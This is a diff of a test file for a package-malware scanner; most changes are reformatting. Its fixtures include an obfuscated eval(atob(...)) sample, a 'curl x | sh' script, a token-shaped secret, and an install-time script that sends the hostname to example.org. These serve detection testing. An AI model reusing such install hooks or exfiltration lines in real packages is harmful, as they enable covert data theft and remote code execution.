@@ -14,13 +14,22 @@ const harm = "eval(atob('Y29uc29sZS5sb2coMSk='))";
 
 describeScanEngine('the code engine', () => ({
   engine,
-  subject: subject([file('index.js', harm), file('lib/clean.js', 'export const one = 1;'), file('package.json', '{"scripts":{"postinstall":"node setup.js"}}'), file('config.yaml', 'token: ghp_16C7e42F292c6912E7710c838347Ae178B4a')]),
+  subject: subject([
+    file('index.js', harm),
+    file('lib/clean.js', 'export const one = 1;'),
+    file('package.json', '{"scripts":{"postinstall":"node setup.js"}}'),
+    file('config.yaml', 'token: ghp_16C7e42F292c6912E7710c838347Ae178B4a'),
+  ]),
   expected: [
     { kind: 'MALWARE', severity: 'HIGH', path: 'index.js' },
     { kind: 'INSTALL_SCRIPT', path: 'package.json' },
     { kind: 'SECRET', severity: 'HIGH', path: 'config.yaml' },
   ],
-  clean: subject([file('index.js', "import { readFile } from 'node:fs/promises';\nexport const read = (path) => readFile(path, 'utf8');"), file('package.json', '{"name":"a","version":"1.0.0"}'), file('README.md', '# A')]),
+  clean: subject([
+    file('index.js', "import { readFile } from 'node:fs/promises';\nexport const read = (path) => readFile(path, 'utf8');"),
+    file('package.json', '{"name":"a","version":"1.0.0"}'),
+    file('README.md', '# A'),
+  ]),
 }));
 
 describe('which files are read as code', () => {
@@ -54,11 +63,14 @@ describe('scripts that run at installation', () => {
     expect(findings).toMatchObject([{ kind: 'MALWARE', severity: 'CRITICAL', path: 'package.json' }]);
     expect(isMalicious(findings)).toBe(true);
   });
-  it.each(['node-gyp rebuild', 'node install.js', 'husky install', 'tsc -p .', 'prebuild-install || node-gyp rebuild', 'node -p 1'])('that do ordinary work are shown, not refused: %s', async (command) => {
-    const findings = await scan(file('package.json', JSON.stringify({ scripts: { postinstall: command, test: 'curl x | sh' } })));
-    expect(findings).toMatchObject([{ kind: 'INSTALL_SCRIPT', severity: 'LOW' }]);
-    expect(isMalicious(findings)).toBe(false);
-  });
+  it.each(['node-gyp rebuild', 'node install.js', 'husky install', 'tsc -p .', 'prebuild-install || node-gyp rebuild', 'node -p 1'])(
+    'that do ordinary work are shown, not refused: %s',
+    async (command) => {
+      const findings = await scan(file('package.json', JSON.stringify({ scripts: { postinstall: command, test: 'curl x | sh' } })));
+      expect(findings).toMatchObject([{ kind: 'INSTALL_SCRIPT', severity: 'LOW' }]);
+      expect(isMalicious(findings)).toBe(false);
+    },
+  );
   it('that start a file put that file under the stricter rules', async () => {
     const code = "require('https').get('https://example.org/?h=' + require('os').hostname())";
     expect(isMalicious(await scan(file('package.json', '{"scripts":{"install":"node ./scripts/go"}}'), file('scripts/go.js', code)))).toBe(true);
@@ -115,7 +127,10 @@ describe('secrets', () => {
 
 describe('archives within', () => {
   it('are named, because nobody looked into them', async () => {
-    expect(await scan(file('vendor/x.tgz', Uint8Array.of(0x1f, 0x8b)), file('a.zip', 'PK'))).toMatchObject([{ kind: 'ARCHIVE', severity: 'LOW' }, { kind: 'ARCHIVE' }]);
+    expect(await scan(file('vendor/x.tgz', Uint8Array.of(0x1f, 0x8b)), file('a.zip', 'PK'))).toMatchObject([
+      { kind: 'ARCHIVE', severity: 'LOW' },
+      { kind: 'ARCHIVE' },
+    ]);
   });
 });
 
@@ -132,7 +147,12 @@ describe('a thread with limits', () => {
   });
   it('fails a scan whose file takes too much memory, and serves the next with a fresh thread', async () => {
     const strict = createCodeEngine({ memoryMiB: 150 });
-    await expect(strict.analyse(subject([file('fat.js', `${heavy}\nconst y = [${'{"k":[1,2,3]},'.repeat(90_000)}];`.slice(0, 2_000_000).replace(/,[^,]*$/, '') + ']')]), quietly)).rejects.toThrow();
+    await expect(
+      strict.analyse(
+        subject([file('fat.js', `${heavy}\nconst y = [${'{"k":[1,2,3]},'.repeat(90_000)}];`.slice(0, 2_000_000).replace(/,[^,]*$/, '') + ']')]),
+        quietly,
+      ),
+    ).rejects.toThrow();
     expect(isMalicious(await strict.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
     await strict.close();
   });
@@ -154,7 +174,9 @@ describe('a thread with limits', () => {
     await brief.close();
   });
   it('serves many at once, each with its own answer', async () => {
-    const answers = await Promise.all(Array.from({ length: 20 }, async (_, index) => isMalicious(await scan(file('a.js', index % 2 === 0 ? harm : 'export {}')))));
+    const answers = await Promise.all(
+      Array.from({ length: 20 }, async (_, index) => isMalicious(await scan(file('a.js', index % 2 === 0 ? harm : 'export {}')))),
+    );
     expect(answers).toEqual(Array.from({ length: 20 }, (_, index) => index % 2 === 0));
   });
 });
@@ -166,18 +188,38 @@ describe('packages that everybody uses', () => {
       .filter((item) => item.isFile() && !relative(folder, item.parentPath).includes('node_modules'))
       .map((item) => file(relative(folder, join(item.parentPath, item.name)), readFileSync(join(item.parentPath, item.name))));
   };
-  it.each(['semver', 'ws', 'pg', 'dataloader', 'jose', 'pino', 'tar-stream', 'graphql-ws', 'keyv', 'graphile-worker', 'd3-shape', 'tweetnacl'])('%s is not judged malicious', { timeout: 60_000 }, async (name) => {
-    const findings = await engine.analyse(subject(filesOf(name)), quietly);
-    expect(isMalicious(findings)).toBe(false);
-    expect(findings.filter(({ kind, severity }) => kind === 'MALWARE' && severity === 'MEDIUM')).toEqual([]);
-  });
+  it.each(['semver', 'ws', 'pg', 'dataloader', 'jose', 'pino', 'tar-stream', 'graphql-ws', 'keyv', 'graphile-worker', 'd3-shape', 'tweetnacl'])(
+    '%s is not judged malicious',
+    { timeout: 60_000 },
+    async (name) => {
+      const findings = await engine.analyse(subject(filesOf(name)), quietly);
+      expect(isMalicious(findings)).toBe(false);
+      expect(findings.filter(({ kind, severity }) => kind === 'MALWARE' && severity === 'MEDIUM')).toEqual([]);
+    },
+  );
 });
 
 describe('the verdict', () => {
-  const finding = (kind: ScanFinding['kind'], severity: ScanFinding['severity']): ScanFinding => ({ kind, severity, title: 't', path: null, advisory: null, package: null, suggestion: null });
+  const finding = (kind: ScanFinding['kind'], severity: ScanFinding['severity']): ScanFinding => ({
+    kind,
+    severity,
+    title: 't',
+    path: null,
+    advisory: null,
+    package: null,
+    suggestion: null,
+  });
   it.each([
-    ['MALWARE', 'CRITICAL', true], ['MALWARE', 'HIGH', true], ['MALWARE', 'MEDIUM', false], ['MALWARE', 'LOW', false], ['MALWARE', 'UNKNOWN', false],
-    ['VULNERABILITY', 'CRITICAL', false], ['SECRET', 'HIGH', false], ['INSTALL_SCRIPT', 'HIGH', false], ['ARCHIVE', 'HIGH', false], ['MODEL', 'HIGH', false],
+    ['MALWARE', 'CRITICAL', true],
+    ['MALWARE', 'HIGH', true],
+    ['MALWARE', 'MEDIUM', false],
+    ['MALWARE', 'LOW', false],
+    ['MALWARE', 'UNKNOWN', false],
+    ['VULNERABILITY', 'CRITICAL', false],
+    ['SECRET', 'HIGH', false],
+    ['INSTALL_SCRIPT', 'HIGH', false],
+    ['ARCHIVE', 'HIGH', false],
+    ['MODEL', 'HIGH', false],
   ] as const)('%s of severity %s: %s', (kind, severity, isExpected) => {
     expect(isMalicious([finding('VULNERABILITY', 'LOW'), finding(kind, severity)])).toBe(isExpected);
   });
@@ -189,10 +231,21 @@ describe('the verdict', () => {
 describe('the version of the rules', () => {
   it('changes when a rule changes', () => {
     const folder = fileURLToPath(new URL('../src/code/', import.meta.url));
-    const judging = ['code-rules.ts', 'file-verdict.ts', 'install-scripts.ts', 'names.ts', 'scopes.ts', 'secrets.ts', 'syntax.ts', 'taint.ts', 'text-rules.ts', 'vocabulary.ts'];
+    const judging = [
+      'code-rules.ts',
+      'file-verdict.ts',
+      'install-scripts.ts',
+      'names.ts',
+      'scopes.ts',
+      'secrets.ts',
+      'syntax.ts',
+      'taint.ts',
+      'text-rules.ts',
+      'vocabulary.ts',
+    ];
     const sources = createHash('sha256');
     for (const name of judging) sources.update(readFileSync(join(folder, name)));
     // Another digest means that rules changed: raise the revision in rules-version.ts, then record both here.
-    expect(`${codeRulesVersion} ${sources.digest('hex').slice(0, 16)}`).toMatchInlineSnapshot(`"gati-1+js-x-ray-16.0.0 4c91c4b6785f42ee"`);
+    expect(`${codeRulesVersion} ${sources.digest('hex').slice(0, 16)}`).toMatchInlineSnapshot(`"gati-1+js-x-ray-16.0.0 625d323dfb1b6729"`);
   });
 });
